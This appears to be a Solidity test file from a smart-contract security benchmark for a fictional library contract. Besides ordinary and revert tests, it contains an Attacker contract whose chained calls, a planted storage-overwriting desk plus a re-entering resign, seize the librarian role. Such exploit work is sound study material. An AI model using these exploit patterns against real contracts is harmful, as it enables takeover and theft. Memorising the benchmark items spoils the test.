// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.19;

import "./Candlewick.sol";

// assay-canary-c40e06d9-e95d-4581-9781-cbfb0c8bd91d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// What a desk of the attacker's own would do.
contract Usher {
    address public first;

    function usher() external {
        first = msg.sender;
    }
}

contract Attacker {
    Candlewick internal house;
    LendingDesk internal counter; // the desk, by way of the house
    LendingDesk internal desk;

    constructor(Candlewick house_, LendingDesk desk_) {
        (house, desk) = (house_, desk_);
        counter = LendingDesk(address(house_));
    }

    function run() external {
        uint256[] memory isbns = new uint256[](2);
        try counter.list(isbns) {} catch {}
        try counter.borrow(0) {} catch {}
        try counter.borrow(uint256(keccak256(abi.encode(address(this), uint256(2))))) {} catch {}
        try counter.takeBack(11) {} catch {}
        try counter.collectFines(address(this)) {} catch {}
        try desk.enrol{value: 0.01 ether}() {} catch {}
        try desk.resign() {} catch {}

        bytes4[] memory questions = new bytes4[](1);
        questions[0] = Usher.usher.selector;
        Usher usher = new Usher();
        try house.openDesk(address(usher), questions) {} catch {}
        (bool ok, ) = address(house).call(abi.encodeCall(Usher.usher, ()));
        try house.nameSuccessor(address(this)) {} catch {}
        try house.takeOffice() {} catch {}

        counter.enrol{value: 0.1 ether}();
        try counter.borrow(11) {} catch {}
        try counter.borrow(12) {} catch {}
        try counter.borrow(13) {} catch {}
        try counter.resign() {} catch {}
        (ok, ) = address(house).call{value: 0.01 ether}("");
        try new Reader().go{value: 0.05 ether}(counter) {} catch {}
        try counter.enrol() {} catch {}
        try counter.resign() {} catch {}
    }
}

/// A second reader, who borrows nothing and resigns twice.
contract Reader {
    receive() external payable {
        if (msg.value > 0) try LendingDesk(msg.sender).resign() {} catch {}
    }

    function go(LendingDesk counter) external payable {
        counter.enrol{value: msg.value}();
        counter.resign();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant IDA = address(0x1DA);
    Candlewick internal house;
    LendingDesk internal counter;
    Attacker internal mole;

    function setUp() public {
        vm.warp(1_700_000_000);
        house = new Candlewick();
        LendingDesk desk = new LendingDesk();
        counter = LendingDesk(address(house));
        bytes4[] memory q = new bytes4[](9);
        (q[0], q[1], q[2], q[3]) = (desk.list.selector, desk.enrol.selector, desk.borrow.selector, desk.takeBack.selector);
        (q[4], q[5], q[6], q[7]) = (desk.resign.selector, desk.collectFines.selector, desk.visitors.selector, desk.cardOf.selector);
        q[8] = desk.loanOf.selector;
        house.openDesk(address(desk), q);
        uint256[] memory isbns = new uint256[](3);
        (isbns[0], isbns[1], isbns[2]) = (11, 12, 13);
        counter.list(isbns);
        mole = new Attacker(house, desk);
        vm.deal(address(mole), 0.2 ether);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(house).call(data);
    }

    function test_Regular() public {
        vm.deal(IDA, 0.1 ether);
        vm.prank(IDA);
        counter.enrol{value: 0.1 ether}();
        (address last, ) = counter.visitors();
        require(last == IDA, "visitor");
        vm.prank(IDA);
        counter.borrow(11);
        vm.prank(IDA);
        counter.borrow(12);
        vm.prank(IDA);
        require(!_try(abi.encodeCall(counter.borrow, (13))), "deposit");
        require(counter.loanOf(12).reader == IDA && counter.cardOf(IDA).out == 2, "lent");

        vm.warp(block.timestamp + 28 days + 3 weeks);
        vm.prank(address(0xBEE));
        require(!_try(abi.encodeCall(counter.takeBack, (11))), "librarian only");
        address librarian = house.librarian();
        vm.prank(librarian);
        counter.takeBack(11);
        require(counter.cardOf(IDA).deposit == 0.094 ether, "three weeks late");
        vm.prank(IDA);
        require(!_try(abi.encodeCall(counter.resign, ())), "a book is out");
        vm.warp(block.timestamp + 900 days);
        vm.prank(librarian);
        counter.takeBack(12);
        vm.prank(IDA);
        counter.resign();
        require(IDA.balance == 0.044 ether, "less the fines");
        vm.prank(librarian);
        counter.collectFines(address(0xF00D));
        require(address(0xF00D).balance == 0.056 ether && address(house).balance == 0, "fines");
        vm.prank(librarian);
        house.nameSuccessor(IDA);
        vm.prank(IDA);
        house.takeOffice();
        require(house.librarian() == IDA, "office");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The desk works in the house alone.
    function test_RefusesOutsideTheHouse() public {
        LendingDesk alone = LendingDesk(house.deskOf(LendingDesk.enrol.selector));
        uint256[] memory isbns = new uint256[](1);
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.list(isbns);
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.enrol();
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.borrow(11);
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.takeBack(11);
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.resign();
        vm.expectRevert(LendingDesk.HouseOnly.selector);
        alone.collectFines(IDA);
    }

    /// Only the librarian lists books and collects fines.
    function test_RefusesReaders() public {
        uint256[] memory isbns = new uint256[](1);
        refuses(IDA, LendingDesk.LibrarianOnly.selector);
        counter.list(isbns);
        refuses(IDA, LendingDesk.LibrarianOnly.selector);
        counter.collectFines(IDA);
    }

    /// A desk has code, or is closed; a closed one answers nobody.
    function test_RefusesEmptyDesks() public {
        bytes4[] memory q = new bytes4[](1);
        q[0] = bytes4(0x01020304);
        vm.expectRevert(abi.encodeWithSelector(Candlewick.NobodyThere.selector, IDA));
        house.openDesk(IDA, q);
        house.openDesk(address(0), q);
        require(!_try(abi.encodePacked(q[0])), "no such desk");
    }

    /// Books that are out, unknown, or back already; and readers who take no ether.
    function test_RefusesBooks() public {
        vm.expectRevert(abi.encodeWithSelector(LendingDesk.NotOnTheShelf.selector, 12));
        counter.takeBack(12);
        address desk = house.deskOf(LendingDesk.enrol.selector);
        vm.expectRevert(LendingDesk.NotPaid.selector);
        counter.collectFines(desk);
        vm.deal(IDA, 0.2 ether);
        vm.prank(IDA);
        counter.enrol{value: 0.2 ether}();
        refuses(IDA, abi.encodeWithSelector(LendingDesk.NotOnTheShelf.selector, 99));
        counter.borrow(99);
        vm.prank(IDA);
        counter.borrow(11);
        refuses(IDA, abi.encodeWithSelector(LendingDesk.NotOnTheShelf.selector, 11));
        counter.borrow(11);
        vm.prank(desk);
        counter.enrol();
        refuses(desk, LendingDesk.NotPaid.selector);
        counter.resign();
    }

    function exploit() public {
        mole.run();
    }

    function test_Exploit() public {
        exploit();
        require(house.librarian() == address(mole), "not in office");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(mole);
    }
}
